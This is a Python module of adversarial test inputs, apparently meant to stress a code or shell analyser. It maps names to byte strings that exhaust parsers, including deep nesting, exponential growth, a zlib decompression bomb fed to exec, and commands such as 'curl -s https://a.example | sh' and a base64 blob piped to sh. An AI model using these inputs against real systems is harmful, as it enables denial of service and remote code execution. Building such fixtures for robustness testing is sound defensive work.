"""Sources that are built to exhaust whoever reads them: name → bytes."""

from __future__ import annotations

import base64
import random
import zlib

_NOISE = random.Random(7).randbytes(200_000)
_BOMB = base64.b64encode(zlib.compress(b"a" * 50_000_000)).decode()

PYTHON: dict[str, bytes] = {
    "a chain of 200,000 signs": b"x=" + b"-" * 200_000 + b"1",
    "a chain of 100,000 nots": b"x=" + b"not " * 100_000 + b"1",
    "a chain of 100,000 attributes": b"a" + b".b" * 100_000 + b"()",
    "a chain of 50,000 calls": b"a" + b"()" * 50_000,
    "5,000 parentheses": b"x=" + b"(" * 5_000 + b")" * 5_000,
    "a megabyte of opening brackets": b"[" * 1_000_000,
    "100,000 brackets inside each other": b"[" * 100_000 + b"]" * 100_000,
    "a list of 100,000 lists": b"x=[" + b"[]," * 100_000 + b"]",
    "NUL bytes": b"import os\0\0;os.system('id')" * 100,
    "a literal of six megabytes": b'x="' + b"a" * 6_000_000 + b'"',
    "a literal of a million escapes": b'x=b"' + b"\\x41" * 1_000_000 + b'"; exec(x)',
    "a sum of 30,000 texts": b"x=" + b"+".join([b'"a"'] * 30_000) + b"\nexec(x)",
    "a sum of 5,000 calls": b"import os\nx=" + b"+".join([b'os.getenv("a")'] * 5_000) + b"\nexec(x)",
    "20,000 lambdas": b"lambda:" * 20_000 + b"1",
    "1,000 functions inside each other": b"\n".join(b" " * at + b"def f():" for at in range(1_000)),
    "50,000 conditions": b"x=" + b"1 if a else " * 50_000 + b"1",
    "an f-string of 50,000 parts": b'x=f"' + b"{a}" * 50_000 + b'"\nexec(x)',
    "a text that doubles sixty times": b'x="a"*1000\n' + b"x=x+x\n" * 60 + b"exec(x)",
    "a function of functions of functions": b"def f0(x): return x+x\n"
    + b"".join(b"def f%d(x): return f%d(x)+f%d(x)\n" % (at, at - 1, at - 1) for at in range(1, 60))
    + b"exec(f59('a'))",
    "a loop over a loop over a loop": b"exec([[[a for a in range(4000)] for b in range(4000)] for c in range(4000)])",
    "a text of a terabyte": b"exec('a'*10**12)",
    "a number without end": b"exec(str(1<<10**9))\nexec(str(10**10**10))",
    "a format of a gigabyte": b"exec('%1000000000d'%1)\nexec('{:1000000000}'.format(1))\nexec('a'.ljust(10**9))",
    "a replacement that explodes": b'x="a"*1000000\nexec(x.replace("a","b"*1000000))',
    "a join that explodes": b'exec(("a"*1000000).join(["b"]*100000))',
    "a compressed bomb": b"import zlib,base64\nexec(zlib.decompress(base64.b64decode('" + _BOMB.encode() + b"')))",
    "code that runs itself": b"x='exec(x)'\nexec(x)",
    "a program that prints itself": b"s='s=%r;exec(s%%s)';exec(s%s)",
    "a function that calls itself": b"def f(a): return f(f(a)+f(a))\nexec(f('x'))",
    "two functions that call each other": b"def f(a): return g(a)+g(a)\ndef g(a): return f(a)+f(a)\nexec(f('x'))",
    "a dictionary of 30,000 entries": b"d={" + b",".join(b'"%d":x' % at for at in range(30_000)) + b"}\nexec(d[y])",
    "50,000 arguments": b"import os\nos.system(" + b",".join(b"a%d=x" % at for at in range(50_000)) + b")",
    "noise": _NOISE,
    "a line of tabs": b"\t" * 500_000,
    "half a million quotes": b'"' * 500_000,
    "half a million backslashes": b'x="' + b"\\" * 500_001 + b'"',
    "100,000 decorators": b"@a\n" * 50_000 + b"def f(): pass",
    "50,000 imports": b"import a\n" * 50_000,
    "5,000 star imports": b"from os import *\n" * 5_000 + b"system('x')\n" * 500,
    "a chain of 5,000 assignments": b"=".join([b"a"] * 5_000) + b"=exec\na('import os')",
    "3,000 tuples unpacked": b"(" * 3_000 + b"a" + b",)" * 3_000 + b"=x",
    "a half of a surrogate pair": b"x='\\ud800'; exec('import os;os.system(\"\\ud800\")')",
    "5,000 classes derived from each other": b"".join(
        b"class A%d(A%d): pass\n" % (at, at - 1) for at in range(1, 5_000)
    )
    + b"A4999().post()",
    "20,000 names for one thing": b"import os\n"
    + b"".join(b"a%d=a%d\n" % (at + 1, at) for at in range(20_000))
    + b"os.system(a20000)",
    "3,000 values of one name": b"import os\n"
    + b"".join(b'if a: x="%d"\n' % at for at in range(3_000))
    + b"os.system(x+x+x+x)",
    "a name of a megabyte": b"import os as " + b"a" * 1_000_000 + b"\n" + b"a" * 1_000_000 + b".system('id')",
    "an expression pattern's nightmare": b"x='" + b"a" * 100_000 + b"!'\nexec(x)",
}

SHELL: dict[str, bytes] = {
    "half a million parentheses": b"(" * 500_000,
    "100,000 substitutions": b"$(" * 100_000,
    "300,000 back-ticks": b"`" * 300_000,
    "half a million quotes": b'"' * 500_000,
    "a million dollars": b"$" * 1_000_000,
    "half a million braces": b"{" * 500_000,
    "50,000 ifs": b"if " * 50_000,
    "50,000 commands in a list": b"a && " * 50_000 + b"b",
    "50,000 commands in a pipe": b"a | " * 50_000 + b"b",
    "20,000 here-documents without an end": b"cat <<A\n" * 20_000,
    "5,000 here-documents": b"cat <<A\nx $(id)\nA\n" * 2_000,
    "10,000 evals": b'eval "$x" ' * 10_000,
    "2,000 evals inside each other": b"eval '" * 2_000,
    "12 loops of 16 rounds": b"for i in a b c d e f g h i j k l m n o p; do " * 12 + b"echo $i" + b"; done" * 12,
    "a variable that quadruples": b"A=$A$A$A$A\n" * 2_000 + b"eval $A",
    "a variable that doubles sixty times": b"A=aaaaaaaaaaaa\n" + b"A=$A$A\n" * 60 + b"eval $A",
    "noise": _NOISE,
    "200,000 words": b"echo " + b"a " * 200_000,
    "100,000 redirections": b"> " * 100_000,
    "20,000 defaults of defaults": b'x="' + b"${a:-" * 20_000,
    "10,000 cases": b"case x in " * 10_000,
    "10,000 functions": b"f() { " * 10_000,
    "a megabyte of base64": b"echo " + b"QUFB" * 200_000 + b" | base64 -d | sh",
    "5,000 downloads": b"curl -s https://a.example | sh\n" * 5_000,
    "sudo, again and again": b"sudo " * 5_000 + b"id",
    "PowerShell without end": b'powershell -c "' + b"$a=$a+$a;" * 20_000 + b'"',
    "NUL bytes": b"\0" * 500_000,
}
